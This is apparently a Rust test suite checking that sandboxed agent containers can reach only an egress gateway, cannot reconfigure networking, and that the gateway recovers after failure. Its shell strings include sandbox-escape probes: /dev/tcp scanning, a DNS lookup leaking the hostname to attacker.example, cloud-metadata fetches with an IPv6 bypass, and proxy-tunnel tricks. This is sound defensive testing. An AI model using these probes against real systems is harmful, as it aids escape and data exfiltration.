//! An agent that wants out: to the host, to a neighbour, to the outside, past the gateway. Each test
//! shows beside what fails that the same way leads somewhere where it may.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::thread;

use worker_tests::harness::{Installation, Options, Worker, docker};

/// Tries each address given as an argument, and says of which something was heard: a refusal comes
/// from whoever has the address, so it counts.
const KNOCK: &str = r#"knock() {
    for address in "$@"; do
        said=$(timeout 5 bash -c "exec 3<>/dev/tcp/${address%:*}/${address##*:}" 2>&1) &&
            echo "reached $address" && continue
        case $said in *refused*) echo "reached $address" ;; *) echo "silence at $address" ;; esac
    done
}
"#;

/// Asks a name server for an address, by hand: what the C library does with an answer is not asked.
const ASK: &str = r#"ask() {
    perl -MSocket -e '
        my ($server, $name) = @ARGV;
        socket(my $socket, PF_INET, SOCK_DGRAM, 0) or die;
        my $question = pack("n6", 7, 256, 1, 0, 0, 0);
        $question .= pack("C/a*", $_) for split /\./, $name;
        $question .= pack("Cnn", 0, 1, 1);
        send($socket, $question, 0, pack_sockaddr_in(53, inet_aton($server)));
        my $ready = ""; vec($ready, fileno($socket), 1) = 1;
        my $reply = "";
        recv($socket, $reply, 512, 0) if select($ready, undef, undef, 3);
        my $answers = length($reply) > 8 ? unpack("x6n", $reply) : 0;
        print $answers ? "answer" : "nothing", " from $server for $name\n";
    ' "$1" "$2"
}
"#;

fn own_address(it: &Installation, name: &str) -> String {
    let format = "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}";
    it.engine.ask(&["inspect", "--format", format, name])
}

/// The gateway as a worker sees it, by its environment.
const GATEWAY: &str = "gateway=${http_proxy#http://}; gateway=${gateway%:*}\n";

fn redis_address(it: &Installation) -> String {
    let url = it.environment.worker_redis_url.as_str();
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    rest.split('/').next().unwrap_or_default().to_owned()
}

fn silent(worker: &Worker<'_>, addresses: &[String]) {
    let stdout = worker.stdout();
    for address in addresses {
        assert!(stdout.contains(&format!("silence at {address}\n")), "{address}:\n{stdout}");
    }
}

#[test]
fn nobody_is_reached_but_the_gateway() {
    let it = Installation::start();
    let neighbour = it.script("exec cat");
    let host = it.environment.host_address();
    let bridge = "{{range .IPAM.Config}}{{.Gateway}}{{end}}";
    let bridge = docker(&["network", "inspect", "--format", bridge, "bridge"]);
    let redis = redis_address(&it);
    TcpStream::connect(&redis).expect("redis is there, for whoever may reach it");
    let outside = ["169.254.169.254:80", "8.8.8.8:53", "1.1.1.1:443"].map(str::to_owned);
    let own = [
        redis,
        format!("{host}:22"),
        format!("{bridge}:22"),
        format!("{}:3128", own_address(&it, &neighbour.name())),
    ];
    let all = [&own[..], &outside[..]].concat();
    let script = format!(
        "{KNOCK}{GATEWAY}knock $gateway:3128 $gateway:6379 {}; echo knocked; exec cat",
        all.join(" ")
    );
    let worker = it.script(&script);
    worker.prints("knocked");
    silent(&worker, &all);
    let stdout = worker.stdout();
    assert_eq!(stdout.matches("reached ").count(), 2, "the gateway alone:\n{stdout}");
    let networks = "{{range $name, $_ := .NetworkSettings.Networks}}{{$name}} {{end}}";
    let networks = it.engine.ask(&["inspect", "--format", networks, &worker.name()]);
    assert_eq!(networks.trim(), format!("{}-network", worker.name()));
}

#[test]
fn names_lead_nowhere() {
    let it = Installation::start();
    let worker = it.script(&format!(
        "{ASK}ask 127.0.0.11 example.com; ask 8.8.8.8 example.com
         ask {} example.com; ask 127.0.0.11 $(hostname).attacker.example
         ask 127.0.0.11 {}-gateway; echo asked; exec cat",
        it.environment.host_address(),
        it.namespace
    ));
    worker.prints("asked");
    let stdout = worker.stdout();
    assert_eq!(stdout.matches("nothing from").count(), 4, "{stdout}");
    let own = format!("answer from 127.0.0.11 for {}-gateway", it.namespace);
    assert!(
        stdout.contains(&own),
        "the engine answers for its own names, and so can be asked: {stdout}"
    );
}

#[test]
fn no_agent_changes_its_network() {
    let it = Installation::start();
    let worker = it.script(
        "echo 1 > /proc/sys/net/ipv4/ip_forward && echo has forwarded
         echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6 && echo has IPv6
         perl -MSocket -e 'socket(S, PF_INET, SOCK_RAW, 1) and print \"has a raw socket\\n\"'
         perl -MSocket -e 'socket(S, 17, SOCK_RAW, 0) and print \"has a packet socket\\n\"'
         perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0);
             ioctl(S, 0x890B, \"\\0\" x 120) and print \"has a route\\n\"'
         perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0) and print \"may have a socket\\n\"'
         unshare -rn true && echo has a network of its own making
         exec cat",
    );
    worker.prompt("tried");
    worker.prints("tried");
    let stdout = worker.stdout();
    assert!(stdout.contains("may have a socket"), "{stdout}");
    assert!(!stdout.contains("has a raw") && !stdout.contains("has a packet"), "{stdout}");
    assert!(!stdout.contains("has a route") && !stdout.contains("has forwarded"), "{stdout}");
    assert!(!stdout.contains("has IPv6"), "{stdout}");
}

/// Says `welcome` to every request.
fn site(host: &str) -> String {
    let listener = TcpListener::bind((host, 0)).expect("a port");
    let address = listener.local_addr().expect("an address").to_string();
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let mut request = [0; 4096];
            let _ = stream.read(&mut request);
            let _ = stream.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\nConnection: close\r\n\r\nwelcome\n",
            );
        }
    });
    address
}

#[test]
fn a_host_that_was_named_is_reached_by_way_of_the_gateway_and_no_other_is() {
    let environment = worker_tests::harness::Environment::read();
    let (named, other) = (site(environment.host_address()), site(environment.host_address()));
    let it = Installation::start_with(
        Options::default().file(&format!("[egress]\nprivate = [\"{named}\"]\n")),
    );
    let fetch = "get() { echo \"$1: $(curl -sS -m 20 \"$@\" 2>&1 | tr '\\n' ' ')\"; }\n";
    let script = format!(
        "{fetch}
         get http://{named}/ -o -
         get http://{named}/ --noproxy '*'
         get http://{other}/ -w '%{{http_code}}'
         get https://{other}/
         get http://169.254.169.254/latest/meta-data -w '%{{http_code}}'
         get http://[::ffff:169.254.169.254]/ -w '%{{http_code}}'
         get http://forbidden.example/ -w '%{{http_code}}'
         get http://{named}/ --connect-to ::{other} --proxytunnel -w '%{{http_code}}'
         echo fetched; exec cat"
    );
    let command = serde_json::json!(["/bin/sh", "-c", script]).to_string();
    let worker = it.worker(&[
        ("agent_type", "CUSTOM"),
        ("modules", "CURL"),
        ("agent_command", &command),
        ("egress", &serde_json::json!([named]).to_string()),
    ]);
    worker.prints("fetched");
    let stdout = worker.stdout();
    let lines: Vec<_> = stdout.lines().filter(|line| line.starts_with("http")).collect();
    assert!(lines[0].ends_with("welcome "), "{stdout}");
    for line in &lines[1..] {
        assert!(!line.contains("welcome"), "{line}");
    }
    for line in [lines[2], lines[4], lines[6]] {
        assert!(line.contains("403"), "{line}");
    }
    it.soon("an event of the refusal", || {
        let events = it.events();
        let refusal = |host: &str| {
            events.iter().any(|event| {
                event.get("type") == "egress"
                    && event.get("worker_id") == worker.id
                    && event.get("host").contains(host)
            })
        };
        (refusal("169.254.169.254") && refusal("forbidden.example")).then_some(())
    });
}

#[test]
fn a_gateway_that_dies_is_replaced_and_its_workers_go_on_without_a_gap() {
    let it = Installation::start();
    let worker =
        it.script("number=0; while read line; do number=$((number + 1)); echo $number $line; done");
    worker.prompt("before");
    worker.prints("1 before");
    let gateway = format!("{}-gateway", it.namespace);
    let keys = it.engine.ask(&["inspect", &gateway]);
    assert!(!keys.contains("scripted-key"), "no key is to be seen");
    docker(&["kill", &gateway]);
    worker.prompt("without a gateway");
    it.soon("another gateway", || {
        let events = it.events();
        let told = |status: &str| {
            let of = |event: &&_| is_of_gateway(event, status);
            events.iter().filter(of).count()
        };
        (told("STARTED") == 2).then_some(())
    });
    worker.prints("2 without a gateway");
    worker.prompt("after");
    worker.prints("3 after");
    worker_tests::harness::assert_numbered(&worker.output());
}

fn is_of_gateway(event: &worker_tests::harness::Entry, status: &str) -> bool {
    event.get("type") == "gateway" && event.get("status") == status
}

#[test]
fn networks_go_with_their_workers() {
    let it = Installation::start();
    let worker = it.script("exec cat");
    let network = format!("{}-network", worker.name());
    assert!(it.engine.networks(&it.namespace).contains(&network));
    worker.delete();
    assert_eq!(it.engine.networks(&it.namespace), Vec::<String>::new());
    let passages = it.redis.run::<i64>(&["HLEN", &it.key("gateway")]);
    assert_eq!(passages, 0);
}
